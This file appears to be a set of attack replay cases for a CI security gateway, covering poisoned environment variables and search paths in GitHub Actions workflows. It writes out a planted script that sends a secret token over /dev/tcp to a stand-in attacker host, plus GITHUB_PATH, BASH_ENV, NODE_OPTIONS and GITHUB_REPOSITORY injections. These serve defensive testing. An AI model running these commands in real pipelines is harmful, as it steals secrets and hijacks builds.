import type { Attack, ReplayCase, WorkflowStep } from '../../attack.ts';
import { event, notAsked } from '../../expected-event.ts';

/** What the planted program does in the later step, which holds a secret: it sends the secret, and lets the step go on. */
const SENDS = `printf '%s\\n' '#!/bin/bash' 'exec 3<>/dev/tcp/collect.attacker.test/80 && printf "GET /%s HTTP/1.1\\r\\n\\r\\n" "$TOKEN" >&3' >"$HOME/planted"; chmod +x "$HOME/planted"`;
const LATER: WorkflowStep = { run: 'git --version || true', env: { TOKEN: '${{ secrets.TOKEN }}' } };

function poison(name: string, plant: string): ReplayCase {
  return {
    name,
    control: 'the gateway: what a later step holds goes nowhere else',
    without: ['gateway'],
    workflow: { event: 'push', steps: [{ run: `${SENDS}; ${plant}` }, LATER] },
    harm: ({ sink, canary }) => sink.got(canary) && 'the secret of the later step arrived',
    event: notAsked(({ name: asked }) => asked === 'collect.attacker.test'),
  };
}

export const attack: Attack = {
  name: 'poisoned-environment',
  title: 'A variable or search path that turns a later step over',
  story:
    'A step may set variables and search paths for the steps after it. An install script, or anything that writes a file whose ' +
    'name the workflow takes from a stranger, so decides what the next step runs: a planted program that comes first in PATH, ' +
    'a script that every bash reads, options of Node.js. Workflows of Google Firebase and Apache could be taken over so.',
  sources: [
    [
      'GitHub environment injection, 2022',
      'https://www.legitsecurity.com/blog/github-privilege-escalation-vulnerability-0',
    ],
    ['MITRE ATT&CK T1574.007', 'https://attack.mitre.org/techniques/T1574/007/'],
    ['practical guide §2, §5'],
  ],
  cases: [
    poison(
      'search-path',
      'mkdir "$HOME/bin"; mv "$HOME/planted" "$HOME/bin/git"; echo "$HOME/bin" >>"$GITHUB_PATH"',
    ),
    poison('shell-start', 'echo "BASH_ENV=$HOME/planted" >>"$GITHUB_ENV"'),
    {
      name: 'options-of-node',
      control: 'rules for what a step may leave to the next',
      without: ['command-rules'],
      workflow: {
        event: 'push',
        steps: [
          { run: 'echo "NODE_OPTIONS=--require /tmp/planted-for-the-next.cjs" >>"$GITHUB_ENV"' },
          { run: 'echo "node will be given: $NODE_OPTIONS"' },
        ],
      },
      harm: ({ output }) =>
        /given: --require/.test(output()) ? 'the next step was given options for Node.js' : undefined,
      event: event('policy.refused', 'commands/', ({ rule, why }) => {
        return rule.startsWith('commands/') && why.includes('NODE_OPTIONS');
      }),
    },
    {
      name: 'runner-variables',
      control: 'rules for what a step may leave to the next',
      without: ['command-rules'],
      workflow: {
        event: 'push',
        steps: [
          { run: 'echo "GITHUB_REPOSITORY=attacker/other" >>"$GITHUB_ENV"' },
          { run: 'echo "this is of $GITHUB_REPOSITORY"' },
        ],
      },
      harm: ({ output }) =>
        output().includes('of attacker/other')
          ? 'the next step takes itself for another repository’s'
          : undefined,
      event: event('policy.refused', 'commands/', ({ rule }) => rule.startsWith('commands/')),
    },
  ],
};
